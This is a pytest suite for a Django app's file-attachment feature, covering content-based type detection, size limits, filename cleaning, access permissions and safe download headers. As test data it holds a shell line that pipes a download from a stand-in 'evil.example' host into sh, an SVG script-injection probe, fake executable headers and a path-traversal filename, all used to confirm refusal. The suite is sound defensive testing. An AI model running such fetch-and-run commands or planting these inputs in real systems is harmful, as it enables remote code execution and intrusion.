"""Attachments: the type checked from the content, the size limit, who may add, download and
delete them, and how the file is served."""

import io
import re
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from practices.attachments import check_upload, clean_name
from practices.models import Attachment
from tests.factories import MembershipFactory, PracticeFactory, UserFactory
from zones.models import Zone

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
HTMX = {"HTTP_HX_REQUEST": "true", **EN}


# --- Small valid files of each allowed type, built here -----------------------------------------


def pdf_bytes() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def png_bytes() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + b"\xff\xd9"


def zip_bytes(entries: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return buffer.getvalue()


def odf_bytes(mime: str) -> bytes:
    return zip_bytes(
        [
            ("mimetype", mime.encode()),
            ("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
            ("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest:manifest/>'),
        ],
        stored_first=True,
    )


def ooxml_bytes(folder: str, main_part: str, main_type: str) -> bytes:
    content_types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/{folder}/{main_part}" ContentType="application/'
        f'vnd.openxmlformats-officedocument.{main_type}"/></Types>'
    ).encode()
    return zip_bytes(
        [
            ("[Content_Types].xml", content_types),
            ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
            (f"{folder}/{main_part}", b'<?xml version="1.0"?><document/>'),
        ]
    )


def odt_bytes() -> bytes:
    return odf_bytes("application/vnd.oasis.opendocument.text")


def ods_bytes() -> bytes:
    return odf_bytes("application/vnd.oasis.opendocument.spreadsheet")


def docx_bytes() -> bytes:
    return ooxml_bytes("word", "document.xml", "wordprocessingml.document.main+xml")


def xlsx_bytes() -> bytes:
    return ooxml_bytes("xl", "workbook.xml", "spreadsheetml.sheet.main+xml")


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 120 + b"PE\x00\x00"
SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"

VALID = [
    ("relazione.pdf", pdf_bytes, "application/pdf"),
    ("verbale.odt", odt_bytes, "application/vnd.oasis.opendocument.text"),
    (
        "verbale.docx",
        docx_bytes,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    ("bilancio.ods", ods_bytes, "application/vnd.oasis.opendocument.spreadsheet"),
    (
        "bilancio.xlsx",
        xlsx_bytes,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    ("mappa.png", png_bytes, "image/png"),
    ("foto.jpg", jpeg_bytes, "image/jpeg"),
    ("foto.JPEG", jpeg_bytes, "image/jpeg"),
]


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(media_root) -> list:
    return [p for p in media_root.rglob("*") if p.is_file()] if media_root.exists() else []


@pytest.fixture
def zone5(territory):
    return Zone.objects.get(number=5)


@pytest.fixture
def draft(zone5):
    return PracticeFactory(zone=zone5, status="draft")


def other_spokesperson():
    return MembershipFactory(
        user=UserFactory(email="portavoce3@example.org"), zone=Zone.objects.get(number=3)
    ).user


def as_user(user) -> Client:
    browser = Client()
    if user is not None:
        browser.force_login(user)
    return browser


def attach(browser, practice, name, data, **extra):
    url = reverse("practices:attachment-create", kwargs={"pk": practice.pk})
    return browser.post(url, {"title": "", "file": upload(name, data)}, **{**EN, **extra})


# --- The checks --------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "build", "content_type"), VALID)
def test_each_allowed_type_is_attached_under_a_generated_name(
    spokesperson_client, draft, media_root, name, build, content_type
):
    data = build()
    response = attach(spokesperson_client, draft, name, data)
    assert response.status_code == 302
    assert response["Location"].endswith(f"{draft.get_absolute_url()}#attachments")
    attachment = Attachment.objects.get(practice=draft)
    assert attachment.original_name == name
    assert attachment.content_type == content_type
    assert attachment.size == len(data)
    assert attachment.title == name.rsplit(".", 1)[0]
    assert re.fullmatch(r"practices/[0-9a-f]{32}\.\w+", attachment.file.name)
    assert name not in attachment.file.name
    [stored] = stored_files(media_root)
    assert stored.read_bytes() == data


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", ELF),
        ("report.pdf", PE),
        ("verbale.docx", PE),
        ("foto.png", ELF),
        ("report.pdf", SCRIPT),
    ],
)
def test_a_renamed_program_is_refused_with_a_clear_message(
    spokesperson_client, draft, media_root, name, data
):
    response = attach(spokesperson_client, draft, name, data)
    assert response.status_code == 400
    assert "This file is a program, not a document" in response.content.decode()
    assert not Attachment.objects.exists()
    assert stored_files(media_root) == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "build", "message"),
    [
        ("foto.jpg", png_bytes, "ends in .jpg but its content is of another type (PNG image)"),
        ("mappa.png", jpeg_bytes, "ends in .png but its content is of another type (JPEG image)"),
        ("relazione.png", pdf_bytes, "ends in .png but its content is of another type (PDF)"),
        ("bilancio.xlsx", docx_bytes, "of another type (Word document (DOCX))"),
        ("verbale.docx", xlsx_bytes, "of another type (Excel spreadsheet (XLSX))"),
        ("bilancio.ods", odt_bytes, "of another type (OpenDocument text (ODT))"),
        ("verbale.odt", docx_bytes, "of another type (Word document (DOCX))"),
        ("relazione.pdf", lambda: b"Just some text pretending.", "is not a valid PDF"),
        ("verbale.docx", lambda: zip_bytes([("a.txt", b"x")]), "is not a valid Word document"),
        (
            "verbale.docx",
            lambda: zip_bytes([("word/document.xml", b"<w/>")]),
            "is not a valid Word document",
        ),
        (
            "verbale.odt",
            lambda: zip_bytes([("mimetype", b"text/html"), ("content.xml", b"<x/>")]),
            "is not a valid OpenDocument text",
        ),
        ("mappa.png", lambda: b"<svg onload=alert(1)></svg>", "is not a valid PNG image"),
        ("relazione.pdf", lambda: b"PK\x03\x04broken zip", "is not a valid PDF"),
    ],
)
def test_content_that_does_not_match_the_extension_is_refused(
    spokesperson_client, draft, media_root, name, build, message
):
    response = attach(spokesperson_client, draft, name, build())
    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'")
    assert not Attachment.objects.exists()
    assert stored_files(media_root) == []


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["notes.txt", "setup.exe", "mappa.svg", "pagina.html", "noext"])
def test_other_types_are_refused_by_name(spokesperson_client, draft, name):
    response = attach(spokesperson_client, draft, name, pdf_bytes())
    assert response.status_code == 400
    assert "Files of this type cannot be attached. Allowed types: PDF, ODT, DOCX" in (
        response.content.decode()
    )
    assert not Attachment.objects.exists()


@pytest.mark.django_db
def test_a_file_over_the_limit_is_refused(spokesperson_client, draft, settings, media_root):
    settings.ATTACHMENT_MAX_BYTES = 100
    data = pdf_bytes()
    assert len(data) > 100
    response = attach(spokesperson_client, draft, "relazione.pdf", data)
    assert response.status_code == 400
    assert "the limit is 100\xa0bytes" in response.content.decode()
    assert not Attachment.objects.exists()
    assert stored_files(media_root) == []
    settings.ATTACHMENT_MAX_BYTES = len(data)
    assert attach(spokesperson_client, draft, "relazione.pdf", data).status_code == 302


@pytest.mark.django_db
def test_an_empty_file_or_no_file_is_refused(spokesperson_client, draft):
    response = attach(spokesperson_client, draft, "vuoto.pdf", b"")
    assert response.status_code == 400
    assert "The file is empty." in response.content.decode()
    url = reverse("practices:attachment-create", kwargs={"pk": draft.pk})
    response = spokesperson_client.post(url, {"title": "Senza file"}, **EN)
    assert response.status_code == 400
    page = response.content.decode()
    assert "Choose a file to attach." in page
    assert 'value="Senza file"' in page  # what was typed is kept
    assert not Attachment.objects.exists()


@pytest.mark.django_db
def test_a_given_title_is_kept_and_a_dangerous_name_is_cleaned(spokesperson_client, draft):
    url = reverse("practices:attachment-create", kwargs={"pk": draft.pk})
    name = "..\\..\\etc/Relazione\x07 finale\t.pdf"
    response = spokesperson_client.post(
        url, {"title": "Relazione 2024", "file": upload(name, pdf_bytes())}
    )
    assert response.status_code == 302
    attachment = Attachment.objects.get()
    assert attachment.title == "Relazione 2024"
    assert "/" not in attachment.original_name and "\\" not in attachment.original_name
    assert "\t" not in attachment.original_name and "\x07" not in attachment.original_name
    assert attachment.original_name.endswith(".pdf")


def test_clean_name_keeps_the_extension_of_an_overlong_name():
    cleaned = clean_name("a" * 400 + ".docx")
    assert len(cleaned) == 255
    assert cleaned.endswith(".docx")
    assert clean_name("") == "attachment"
    assert clean_name("C:\\Users\\anna\\verbale.odt") == "verbale.odt"


def test_check_upload_reports_the_stored_type_from_the_content():
    checked = check_upload(upload("Foto.JPG", jpeg_bytes(), content_type="text/html"))
    assert checked.content_type == "image/jpeg"  # not what the browser claimed


# --- Through htmx ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_htmx_upload_redraws_the_attachments_section(spokesperson_client, draft):
    response = attach(spokesperson_client, draft, "relazione.pdf", pdf_bytes(), **HTMX)
    assert response.status_code == 200
    page = response.content.decode()
    assert page.lstrip().startswith('<section id="attachments"')
    assert "“relazione” is attached." in page
    assert Attachment.objects.get().get_absolute_url() in page
    assert "<html" not in page


@pytest.mark.django_db
def test_htmx_upload_with_errors_redraws_the_section_with_the_message(spokesperson_client, draft):
    response = attach(spokesperson_client, draft, "report.pdf", ELF, **HTMX)
    assert response.status_code == 200
    page = response.content.decode()
    assert page.lstrip().startswith('<section id="attachments"')
    assert "This file is a program" in page
    assert not Attachment.objects.exists()


# --- Download ----------------------------------------------------------------------------------


def make_attachment(practice, name="Relazione finale.pdf", data=None, user=None):
    data = data or pdf_bytes()
    return Attachment.objects.create(
        practice=practice,
        title="Relazione",
        file=upload(name, data),
        original_name=name,
        content_type="application/pdf",
        size=len(data),
        uploaded_by=user,
    )


@pytest.mark.django_db
def test_download_serves_the_file_as_an_attachment_with_its_original_name(client, zone5):
    published = PracticeFactory(zone=zone5, status="published")
    attachment = make_attachment(published)
    response = client.get(attachment.get_absolute_url())
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == pdf_bytes()
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="Relazione finale.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


@pytest.mark.django_db
def test_a_non_ascii_name_is_sent_encoded(client, zone5):
    published = PracticeFactory(zone=zone5, status="published")
    attachment = make_attachment(published, name="Attività è già.pdf")
    response = client.get(attachment.get_absolute_url())
    assert response.status_code == 200
    assert (
        "filename*=utf-8''Attivit%C3%A0%20%C3%A8%20gi%C3%A0.pdf"
        in (response["Content-Disposition"])
    )


@pytest.mark.django_db
def test_download_follows_who_may_see_the_practice(zone5, spokesperson, staff_user):
    draft = PracticeFactory(zone=zone5, status="draft")
    attachment = make_attachment(draft)
    url = attachment.get_absolute_url()
    expected = [
        (None, 404),
        (other_spokesperson(), 404),
        (spokesperson, 200),
        (staff_user, 200),
    ]
    for user, status in expected:
        assert as_user(user).get(url).status_code == status, user


@pytest.mark.django_db
def test_a_missing_file_is_a_404_not_a_500(client, zone5, media_root):
    attachment = make_attachment(PracticeFactory(zone=zone5, status="published"))
    for path in stored_files(media_root):
        path.unlink()
    assert client.get(attachment.get_absolute_url()).status_code == 404


@pytest.mark.django_db
def test_uploaded_files_are_not_reachable_under_media_url(client, settings, zone5):
    attachment = make_attachment(PracticeFactory(zone=zone5, status="published"))
    assert client.get(f"/{settings.MEDIA_URL}{attachment.file.name}").status_code == 404
    assert client.get(attachment.file.url).status_code == 404


@pytest.mark.django_db
def test_download_answers_get_only(client, zone5):
    attachment = make_attachment(PracticeFactory(zone=zone5, status="published"))
    assert client.post(attachment.get_absolute_url()).status_code == 405


# --- Who may add and delete --------------------------------------------------------------------


ROLES = ["visitor", "spokesperson", "other_spokesperson", "staff"]


def user_for(role, spokesperson, staff_user):
    return {
        "visitor": None,
        "spokesperson": spokesperson,
        "other_spokesperson": other_spokesperson(),
        "staff": staff_user,
    }[role]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("status", "role", "method", "expected"),
    [
        # A draft: the owning zone's spokespersons and staff may manage its files.
        ("draft", "visitor", "get", 302),
        ("draft", "visitor", "post", 302),
        ("draft", "spokesperson", "get", 302),
        ("draft", "spokesperson", "post", 302),
        ("draft", "other_spokesperson", "get", 404),
        ("draft", "other_spokesperson", "post", 404),
        ("draft", "staff", "get", 302),
        ("draft", "staff", "post", 302),
        # Published: no longer editable by the zone; staff still may.
        ("published", "visitor", "post", 302),
        ("published", "spokesperson", "get", 403),
        ("published", "spokesperson", "post", 403),
        ("published", "other_spokesperson", "get", 403),
        ("published", "other_spokesperson", "post", 403),
        ("published", "staff", "post", 302),
    ],
)
def test_who_may_attach(
    zone5, spokesperson, staff_user, media_root, status, role, method, expected
):
    practice = PracticeFactory(zone=zone5, status=status)
    user = user_for(role, spokesperson, staff_user)
    url = reverse("practices:attachment-create", kwargs={"pk": practice.pk})
    browser = as_user(user)
    if method == "get":
        response = browser.get(url)
    else:
        response = browser.post(url, {"file": upload("relazione.pdf", pdf_bytes())})
    assert response.status_code == expected
    if user is None:
        assert response["Location"].startswith(reverse("account_login"))
    allowed = method == "post" and expected == 302 and user is not None
    assert Attachment.objects.count() == (1 if allowed else 0)
    assert len(stored_files(media_root)) == (1 if allowed else 0)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("status", "role", "method", "expected"),
    [
        ("draft", "visitor", "post", 302),
        ("draft", "spokesperson", "get", 302),
        ("draft", "spokesperson", "post", 302),
        ("draft", "other_spokesperson", "post", 404),
        ("draft", "staff", "post", 302),
        ("published", "visitor", "post", 302),
        ("published", "spokesperson", "post", 403),
        ("published", "other_spokesperson", "post", 403),
        ("published", "other_spokesperson", "get", 403),
        ("published", "staff", "post", 302),
    ],
)
def test_who_may_delete_an_attachment(
    zone5,
    spokesperson,
    staff_user,
    media_root,
    django_capture_on_commit_callbacks,
    status,
    role,
    method,
    expected,
):
    practice = PracticeFactory(zone=zone5, status=status)
    attachment = make_attachment(practice)
    user = user_for(role, spokesperson, staff_user)
    url = reverse("practices:attachment-delete", kwargs={"pk": attachment.pk})
    with django_capture_on_commit_callbacks(execute=True):
        response = getattr(as_user(user), method)(url)
    assert response.status_code == expected
    deleted = method == "post" and expected == 302 and user is not None
    assert Attachment.objects.filter(pk=attachment.pk).exists() is not deleted
    assert len(stored_files(media_root)) == (0 if deleted else 1)


@pytest.mark.django_db
def test_htmx_delete_redraws_the_section(spokesperson_client, draft, media_root):
    attachment = make_attachment(draft)
    url = reverse("practices:attachment-delete", kwargs={"pk": attachment.pk})
    response = spokesperson_client.post(url, **HTMX)
    assert response.status_code == 200
    page = response.content.decode()
    assert "“Relazione” is no longer attached." in page
    assert "No files are attached." in page
    assert not Attachment.objects.exists()


@pytest.mark.django_db
def test_the_page_lists_attachments_with_type_size_and_download_link(client, zone5):
    published = PracticeFactory(zone=zone5, status="published")
    attachment = make_attachment(published)
    page = client.get(published.get_absolute_url(), **EN).content.decode()
    assert f'href="{attachment.get_absolute_url()}"' in page
    assert "Relazione finale.pdf" in page
    assert "<td>PDF</td>" in page
    assert f"{attachment.size}\xa0bytes" in page
    # A visitor sees no upload form and no delete button.
    assert reverse("practices:attachment-create", kwargs={"pk": published.pk}) not in page
    assert reverse("practices:attachment-delete", kwargs={"pk": attachment.pk}) not in page


@pytest.mark.django_db
def test_the_owning_zone_sees_the_upload_form_and_delete_buttons(spokesperson_client, draft):
    attachment = make_attachment(draft)
    page = spokesperson_client.get(draft.get_absolute_url(), **EN).content.decode()
    assert 'enctype="multipart/form-data"' in page
    assert reverse("practices:attachment-create", kwargs={"pk": draft.pk}) in page
    assert reverse("practices:attachment-delete", kwargs={"pk": attachment.pk}) in page
